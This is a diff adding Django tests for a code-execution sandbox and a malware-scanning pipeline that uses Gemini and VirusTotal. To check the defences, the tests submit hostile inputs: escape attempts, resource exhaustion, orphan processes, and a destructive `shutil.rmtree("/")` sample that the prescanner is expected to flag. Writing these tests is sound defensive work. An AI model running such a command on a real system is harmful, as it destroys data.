+            response = self.client.post(reverse('compiler_submit'),
+                                        {'code': 'n = int(input())\nprint(n * n)', 'language': 'python', 'input': '12'})
+        self.assertFalse(judge0.called)
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual((response.json()['status'], response.json()['result']), ('done', '144\n'))
+
+        # Judge0 ga o'tmaydigan tillar o'zgarmaydi
+        self.assertIs(compiler.get_executor('cpp'), compiler._judge0_executor)
+
+    def test_limits_network_and_filesystem(self):
+        result = sandbox.execute('python', 'import socket\nsocket.create_connection(("1.1.1.1", 80), timeout=2)')
+        self.assertIn('Network is unreachable', result.stderr)
+        with override_settings(LOCAL_EXECUTOR_TIMEOUT=1):
+            result = sandbox.execute('python', 'while True:\n    pass')
+        self.assertEqual(compiler.format_exec_result(result)[0], CompilerRun.FAILED)
+        result = sandbox.execute('python', 'x = bytearray(10 ** 9)')
+        self.assertIn('MemoryError', result.stderr)
+        if os.geteuid() == 0:
+            result = sandbox.execute('python', f'open({os.path.abspath(__file__)!r}).read()')
+            self.assertIn('PermissionError', result.stderr)
+
+    def test_node_reads_stdin(self):
+        result = sandbox.execute('javascript', 'const s = require("fs").readFileSync(0, "utf8");\nconsole.log(Number(s) * 2);', '21')
+        self.assertEqual(result.stdout, '42\n')
+
+    def test_background_processes_and_node_buffers_are_limited(self):
+        # setsid + fork qilgan nevara jarayon dastur tugagach ham tirik qolmasligi kerak (PID namespace)
+        marker = f'sandbox-orphan-{os.getpid()}'
+        code = (f'import os, time\nif os.fork() == 0:\n    os.setsid()\n    os.execv("/bin/sleep", ["{marker}", "60"])\n'
+                'time.sleep(0.3)\nprint("ok")')
+        result = sandbox.execute('python', code)
+        self.assertEqual(result.stdout, 'ok\n')
+        survivors = subprocess.run(['pgrep', '-f', marker], capture_output=True, text=True).stdout
+        self.assertEqual(survivors, '')
+
+        # Buffer V8 heap chegarasiga kirmaydi - RLIMIT_DATA uni ushlaydi
+        result = sandbox.execute('javascript', 'const a = [];\nfor (let i = 0; i < 8; i++) a.push(Buffer.alloc(128 * 1024 * 1024, 1));\nconsole.log("tugadi");')
+        self.assertNotEqual(result.exit_code, 0)
+        self.assertNotIn('tugadi', result.stdout)
+
+    def test_each_run_has_private_workdir(self):
+        box = sandbox.Sandbox('python')
+        try:
+            self.assertEqual(os.stat(box.workdir).st_mode & 0o777, 0o700)
+            self.assertEqual(os.stat(os.path.join(box.workdir, 'stdout')).st_mode & 0o777, 0o600)
+            if os.geteuid() == 0:
+                other = sandbox.Sandbox('python')
+                self.assertNotEqual(os.stat(box.workdir).st_uid, os.stat(other.workdir).st_uid)
+                other.close()
+                self.assertFalse(os.path.exists(other.workdir))
+        finally:
+            box.close()
+
+
+class ScanWorkerTests(TransactionTestCase):
+    # Skanlar alohida oqimlarda (alohida DB ulanishi) bajariladi, shuning uchun tranzaksiyasiz test
+
+    def test_worker_runs_queue_with_bounded_concurrency(self):
+        author = User.objects.create_user(username='skanchi')
+        for i in range(5):
+            project = Project.objects.create(
+                author=author, title=f'Loyiha {i}', description='test', source_code='project_code/a.py',
+                image='project_thumbnails/test.jpg', youtube_link='https://youtu.be/dQw4w9WgXcQ',
+            )
+            enqueue_scan(project.pk)
+        active, peak, lock = [0], [0], threading.Lock()
+
+        def fake_scan(project_id, raise_errors=False, use_cache=True):
+            with lock:
+                active[0] += 1
+                peak[0] = max(peak[0], active[0])
+            time.sleep(0.05)
+            with lock:
+                active[0] -= 1
+
+        with mock.patch('projects.scan_pipeline.run_security_scan', side_effect=fake_scan):
+            processed = ScanWorker(concurrency=2, poll_interval=0.01).run(once=True)
+
+        self.assertEqual(processed, 5)
+        self.assertLessEqual(peak[0], 2)
+        self.assertEqual(ScanJob.objects.filter(status=ScanJob.DONE).count(), 5)
+
+
+class ScanPipelineTests(TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.path = os.path.join(self.tmp.name, 'blob')
+        with open(self.path, 'wb') as f:
+            # os.remove -> lokal prescan UNSURE, shuning uchun Gemini bosqichi ishlaydi
+            f.write(b'import os\nos.remove("eski.txt")\n' + b'print("salom")\n' * 2000)
+        author = User.objects.create_user(username='pipeline')
+        self.project = Project.objects.create(
+            author=author, title='Skan', description='test', source_code='project_code/main.py',
+            image='project_thumbnails/test.jpg', youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def test_single_fetch_shared_by_gemini_and_virustotal(self):
+        gemini = mock.Mock(return_value='SAFE: toza')
+        with mock.patch('projects.scan_pipeline.get_source_cache') as cache, \
+                mock.patch('projects.scan_pipeline.scan_with_gemini', gemini), \
+                mock.patch('projects.chunk_scan.scan_with_gemini', gemini), \
+                mock.patch('projects.scan_pipeline.scan_with_virustotal', return_value=('https://vt/x', 'success')) as vt:
+            cache.return_value.get_path.return_value = self.path
+            cache.return_value.root = self.tmp.name
+            run_security_scan(self.project.pk)
+
+        self.assertEqual(cache.return_value.get_path.call_count, 1)
+        # 30 KB fayl bo'laklanadi: Gemini faqat os.remove bor bo'lakni ko'radi
+        self.assertEqual(gemini.call_count, 1)
+        self.assertIn('os.remove', gemini.call_args.args[0])
+        self.assertLessEqual(len(gemini.call_args.args[0]), 10000)
+        self.assertEqual(vt.call_args.args, (self.path, 'main.py'))
+        self.project.refresh_from_db()
+        self.assertEqual((self.project.security_status, self.project.is_scanned), ('safe', True))
+
+    def test_scan_reads_private_copy_while_cache_evicts_blob(self):
+        blobs = os.path.join(self.tmp.name, 'blobs')
+        os.makedirs(blobs)
+        with open(self.path, 'rb') as f:
+            data = f.read()
+        sha = hashlib.sha256(data).hexdigest()
+        blob = os.path.join(blobs, sha)
+        with open(blob, 'wb') as f:
+            f.write(data)
+
+        def evict_then_upload(path, name):
+            os.remove(blob)  # Boshqa so'rovdagi SourceCache._evict skan o'rtasida
+            with open(path, 'rb') as f:
+                self.assertEqual(f.read(), data)
+            return 'https://vt/x', 'success'
+
+        with mock.patch('projects.scan_pipeline.get_source_cache') as cache, \
+                mock.patch('projects.chunk_scan.scan_with_gemini', return_value='SAFE: toza'), \
+                mock.patch('projects.scan_pipeline.lookup_virustotal_hash', return_value=None), \
+                mock.patch('projects.scan_pipeline.scan_with_virustotal', side_effect=evict_then_upload) as vt:
+            cache.return_value.get_path.return_value = blob
+            cache.return_value.root = self.tmp.name
+            run_security_scan(self.project.pk, raise_errors=True)
+
+        self.assertNotEqual(vt.call_args.args[0], blob)
+        self.assertEqual(os.listdir(os.path.join(self.tmp.name, 'scans')), [])  # Nusxa skandan keyin o'chirildi
+        self.assertEqual(ScanVerdict.objects.get().sha256, sha)
+        self.project.refresh_from_db()
+        self.assertEqual(self.project.security_status, 'safe')
+
+    def test_failed_download_is_retryable(self):
+        with mock.patch('projects.scan_pipeline.get_source_cache') as cache:
+            cache.return_value.get_path.return_value = None
+            with self.assertRaises(Exception):
+                run_security_scan(self.project.pk, raise_errors=True)
+
+    def _scan(self, ai='SAFE: toza', vt_lookup=None, during_scan=None, **kwargs):
+        gemini = mock.Mock(return_value=ai)  # Kichik fayl - to'g'ridan-to'g'ri, katta - chunk_scan orqali
+
+        def decide(ai_result, vt_status):
+            if during_scan:
+                during_scan()  # Tashqi API lar javob berguncha muallif loyihani o'zgartirdi
+            return decide_verdict(ai_result, vt_status)
+        with mock.patch('projects.scan_pipeline.get_source_cache') as cache, \
+                mock.patch('projects.scan_pipeline.scan_with_gemini', gemini), \
+                mock.patch('projects.chunk_scan.scan_with_gemini', gemini), \
+                mock.patch('projects.scan_pipeline.lookup_virustotal_hash', return_value=vt_lookup) as lookup, \
+                mock.patch('projects.scan_pipeline.scan_with_virustotal', return_value=('https://vt/x', 'success')) as vt, \
+                mock.patch('projects.scan_pipeline.decide_verdict', side_effect=decide):
+            cache.return_value.get_path.return_value = self.path
+            cache.return_value.root = self.tmp.name
+            run_security_scan(self.project.pk, **kwargs)
+        self.project.refresh_from_db()
+        return gemini, lookup, vt
+
+    def test_identical_content_reuses_cached_verdict(self):
+        self._scan(ai='DANGER: reverse shell')
+        verdict = ScanVerdict.objects.get()
+        self.assertEqual(verdict.security_status, 'danger')
+
+        other = Project.objects.create(
+            author=self.project.author, title='Nusxa', description='test', source_code='project_code/main_x1.py',
+            image='project_thumbnails/test.jpg', youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+        self.project = other
+        gemini, lookup, vt = self._scan()
+        self.assertFalse(gemini.called or lookup.called or vt.called)
+        self.assertEqual((other.security_status, other.is_frozen), ('danger', True))
+        self.assertEqual(ScanVerdict.objects.get().hits, 1)
+
+        # Admin qayta skani keshni chetlab o'tadi va hukmni yangilaydi
+        gemini, _, _ = self._scan(use_cache=False)
+        self.assertTrue(gemini.called)
+        self.assertEqual(ScanVerdict.objects.get().security_status, 'safe')
+
+    def test_late_verdict_keeps_owner_edits_and_skips_replaced_file(self):
+        self._scan(ai='DANGER: reverse shell',
+                   during_scan=lambda: Project.objects.filter(pk=self.project.pk).update(title='Yangi nom', price=5))
+        self.assertEqual((self.project.title, self.project.price), ('Yangi nom', 5))
+        self.assertEqual((self.project.security_status, self.project.is_frozen), ('danger', True))
+
+        # Skan paytida yangi fayl yuklandi - eski faylning hukmi yozilmaydi
+        Project.objects.filter(pk=self.project.pk).update(is_frozen=False, security_status='pending', is_scanned=False)
+
+        reupload = lambda: Project.objects.filter(pk=self.project.pk).update(source_code='project_code/yangi.py')
+        self._scan(ai='DANGER: reverse shell', use_cache=False, during_scan=reupload)
+        self.assertEqual(self.project.source_code.name, 'project_code/yangi.py')
+        self.assertEqual((self.project.security_status, self.project.is_frozen), ('pending', False))
+
+    def test_inconclusive_ai_answer_is_not_cached(self):
+        self._scan(ai='SAFE: AI Xatosi (timeout)')
+        self.assertEqual(self.project.security_status, 'safe')
+        self.assertFalse(ScanVerdict.objects.exists())
+
+    def test_known_hash_skips_virustotal_upload(self):
+        _, lookup, vt = self._scan(vt_lookup=('https://vt/known', 'malicious (3 ta antivirus)'))
+        self.assertEqual(len(lookup.call_args.args[0]), 64)
+        self.assertFalse(vt.called)
+        self.assertEqual((self.project.security_status, self.project.virustotal_link), ('danger', 'https://vt/known'))
+
+    def test_local_prescan_verdict_skips_gemini(self):
+        with open(self.path, 'wb') as f:
+            f.write(b'print("salom")\n' * 100)
+        gemini, _, _ = self._scan()
+        self.assertFalse(gemini.called)
+        self.assertEqual(self.project.security_status, 'safe')
+
+        with open(self.path, 'wb') as f:
+            f.write(b'import shutil\nshutil.rmtree("/")\n')
+        gemini, _, _ = self._scan(use_cache=False)
+        self.assertFalse(gemini.called)
+        self.assertEqual((self.project.security_status, self.project.is_frozen), ('danger', True))
+
+    def test_multipart_body_is_streamed_from_file(self):
+        body = _MultipartFile(self.path, 'file', 'main.py')
+        chunks = []
+        while True:
+            chunk = body.read(1000)
+            if not chunk:
+                break
+            chunks.append(chunk)
+        body.close()
+        data = b''.join(chunks)
+        self.assertEqual(len(data), body.len)
+        self.assertIn(b'filename="main.py"', data)
+        self.assertTrue(data.endswith(f'--{body.boundary}--\r\n'.encode()))
+        self.assertEqual(max(len(c) for c in chunks), 1000)